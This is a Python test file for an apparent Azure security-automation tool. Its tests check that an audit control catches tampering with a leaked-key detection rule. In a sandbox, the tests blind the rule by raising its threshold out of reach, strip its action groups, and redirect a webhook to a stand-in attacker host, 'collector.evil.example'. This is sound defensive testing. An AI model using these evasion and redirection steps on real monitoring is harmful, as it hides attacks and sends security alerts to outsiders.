"""RT18-03 (attacker b: Monitoring Contributor, often held subscription-wide): the audit's ``monitoring.alert-rules``
control — "the alert rules that feed Firestop exist and are enabled (one per playbook)", severity high, the weekly
backstop — counted *any* enabled rule carrying ``firestop-playbook: <name>``.

Before using a leaked key, the attacker blinds Firestop's ``aoai-leaked-key-usage`` detection (here: the threshold
raised out of reach on both accounts' copies; disabling them and leaving a decoy works the same) and keeps a rule
routed to ``leaked-api-key`` that never fires. The control still passed: "every playbook is fed by an enabled alert
rule". Since RT17-01 such a rule is not even one Firestop would act on (not the playbook's detection, not trusted by an
admin): what feeds a playbook is its detection as ``firestop infra`` deploys it, or a rule an admin trusted.
"""

from __future__ import annotations

import copy

from azure.mgmt.monitor import MonitorManagementClient

from firestop.audit import AuditContext, run_audit
from firestop.audit.registry import all_controls
from firestop.azure.clients import ClientFactory
from firestop.playbooks import load_playbooks
from firestop.sandbox import Tenant
from firestop.sandbox.probe import unserved
from firestop.settings import REPO_ROOT, Settings
from firestop.tabletop.detection import deploy_detection
from tests.playbooks.test_detect_rules import PROFILE

WORKSPACE_GUID = "0a6c2f6e-7f1c-4f61-9d3a-5c1f2d9e8b7a"  # law-contoso-sec's customerId


def _control(tenant) -> object:  # (noqa)
    clients = ClientFactory(credential=tenant.credential, transport=tenant.transport, clock=tenant.clock, sandbox=True)
    # (FIRESTOP_HOME's records: where the webhook keeps the Defender alerts it received, defender18)
    settings = Settings.from_env(key_vault_url="https://kv-contoso-ai.vault.azure.net",
                                 log_workspace_id=WORKSPACE_GUID, automation_principal_id=tenant.credential.principal_id)
    chosen = [c for c in all_controls() if c.id == "monitoring.alert-rules"]
    audit = run_audit(AuditContext(clients=clients, settings=settings, subscription=tenant.subscription_id, unserved=unserved,
                                   playbooks=tuple(load_playbooks(REPO_ROOT / "playbooks"))), controls=chosen)
    (result,) = audit.results
    return result


def test_rt18_03_a_blinded_detection_fails_the_alert_rules_control(firestop_home):
    tenant = Tenant.load()
    deploy_detection(tenant, REPO_ROOT / "playbooks")
    before = _control(tenant)  # every playbook's detection deployed as firestop infra does (the Defender-only
    assert "leaked-api-key" not in before.detail, before.detail  # playbooks ship no rule: listed, as before)
    monitor = MonitorManagementClient(tenant.credential, tenant.subscription_id, transport=tenant.transport, profile=PROFILE)
    for rule in monitor.scheduled_query_rules.list_by_subscription():
        if rule.name.startswith("aoai-leaked-key-usage"):
            body = copy.deepcopy(rule)
            body.criteria.all_of[0].threshold = 1e12  # still enabled, still routed to leaked-api-key: never fires
            monitor.scheduled_query_rules.create_or_update(rule.id.split("/")[4], rule.name, body)
    result = _control(tenant)
    assert result.status.value == "fail", (result.status, result.detail)
    assert "leaked-api-key" in result.detail, result.detail


def test_rt18_03_the_production_accounts_detection_blinded_alone_fails_too(firestop_home):
    """The dev account's copy of the detection stays whole; the production account's is blinded: the playbook is
    still fed somewhere, but not where the leaked key would be used."""
    tenant = Tenant.load()
    deploy_detection(tenant, REPO_ROOT / "playbooks")
    monitor = MonitorManagementClient(tenant.credential, tenant.subscription_id, transport=tenant.transport, profile=PROFILE)
    rule = monitor.scheduled_query_rules.get("rg-ai-prod", "aoai-leaked-key-usage-contoso-openai-prod")
    rule.criteria.all_of[0].threshold = 1e12
    monitor.scheduled_query_rules.create_or_update("rg-ai-prod", rule.name, rule)
    result = _control(tenant)
    assert result.status.value == "fail" and "leaked-api-key on contoso-openai-prod" in result.detail, result.detail
    assert "contoso-openai-dev" not in result.detail.split("routed but")[0], result.detail


def test_rt18_05_a_detection_cut_off_from_firestop_fails_the_control(firestop_home, monkeypatch):
    """RT18-05: the detection left as deployed, but no longer notifying Firestop — its action group list emptied, or
    Firestop's action group disabled or its webhook pointed elsewhere — fired into the void while the control passed
    (rule_trust compares what decides *when* a rule fires, not where it notifies)."""
    tenant = Tenant.load()
    deploy_detection(tenant, REPO_ROOT / "playbooks")
    monitor = MonitorManagementClient(tenant.credential, tenant.subscription_id, transport=tenant.transport, profile=PROFILE)
    for rule in monitor.scheduled_query_rules.list_by_subscription():
        if rule.name.startswith("aoai-leaked-key-usage"):
            rule.actions.action_groups = []  # the criteria and firestop-* properties untouched
            monitor.scheduled_query_rules.create_or_update(rule.id.split("/")[4], rule.name, rule)
    result = _control(tenant)
    assert result.status.value == "fail" and "leaked-api-key" in result.detail, result.detail

    monkeypatch.setenv("FIRESTOP_PUBLIC_URL", "https://func-firestop.azurewebsites.net")  # the app's own host
    tenant = Tenant.load()  # again, and this time Firestop's action group itself sends elsewhere
    deploy_detection(tenant, REPO_ROOT / "playbooks")
    assert "leaked-api-key" not in _control(tenant).detail
    tenant = Tenant.load()
    deploy_detection(tenant, REPO_ROOT / "playbooks")
    factory = ClientFactory(credential=tenant.credential, transport=tenant.transport, clock=tenant.clock, sandbox=True)
    groups = factory.monitor(tenant.subscription_id).action_groups
    (group,) = list(groups.list_by_subscription_id())
    group.webhook_receivers[0].service_uri = "https://collector.evil.example/api/alerts?code=x"
    groups.create_or_update(group.id.split("/")[4], group.name, group)
    result = _control(tenant)
    assert result.status.value == "fail" and "leaked-api-key" in result.detail, result.detail
